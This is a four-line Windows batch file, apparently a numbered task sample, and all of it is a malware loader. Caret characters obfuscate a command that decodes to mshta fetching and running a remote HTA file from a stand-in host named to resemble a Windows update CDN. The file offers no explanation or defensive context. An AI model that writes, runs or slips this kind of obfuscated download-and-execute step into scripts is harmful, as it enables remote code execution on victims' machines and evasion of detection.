REM task 7142 v1
@echo off
set gzlb=^m^sh^t^a ^h^tt^p://d^l.^winup^d^a^te-^cd^n.ex^ampl^e/^up^date.hta
call %gzlb%
